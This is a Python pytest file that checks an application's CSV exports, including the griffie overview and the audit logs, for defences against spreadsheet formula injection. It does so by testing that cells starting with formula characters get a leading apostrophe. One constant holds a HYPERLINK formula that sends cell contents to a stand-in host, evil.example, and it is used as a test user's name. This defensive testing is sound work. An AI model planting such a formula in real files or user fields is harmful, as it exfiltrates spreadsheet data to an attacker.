"""Every CSV export neutralises cells a spreadsheet would run as a formula."""
from __future__ import annotations

import csv
import io

import pytest

from app.audit.services import record
from app.auth.models import Role
from app.csv_export import safe_cell
from tests.factories import UserFactory
from tests.griffie.conftest import assign

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'


@pytest.mark.parametrize("text", [EVIL, "+31 6 1234", "-2+3", "@SUM(A1)", "\tx", "\rx", "\0x"])
def test_a_formula_start_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Anna de Vries", "", "1=1", "a-b", "2026-11-23"])
def test_ordinary_text_is_left_alone(text):
    assert safe_cell(text) == text


def rows(data: bytes, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=delimiter))


@pytest.mark.parametrize(("query", "delimiter"), [("", ","), ("?excel=1", ";")])
def test_griffie_overview_export_neutralises_a_hyperlink_name(client, login_as, db, course, query, delimiter):
    griffier = login_as(Role.GRIFFIER)
    member = UserFactory(organisation=griffier.organisation, name=EVIL)
    db.session.commit()
    assign(course, user=member)
    [_header, row] = rows(client.get(f"/griffie/overzicht.csv{query}").data, delimiter)
    assert row[0] == "'" + EVIL


@pytest.mark.parametrize(("role", "url"), [(Role.GRIFFIER, "/griffie/logboek.csv"), (Role.ADMIN, "/beheer/logboek.csv")])
def test_audit_export_neutralises_a_hyperlink_name(client, login_as, db, role, url):
    viewer = login_as(role)
    actor = UserFactory(organisation=viewer.organisation, name=EVIL, role=Role.GRIFFIER)
    db.session.flush()
    record("member.deactivated", actor=actor, organisation_id=viewer.organisation_id, details={"note": "-1"})
    db.session.commit()
    [_header, *found] = rows(client.get(url).data)
    entry = next(r for r in found if r[2] == "member.deactivated")
    assert entry[3] == "'" + EVIL
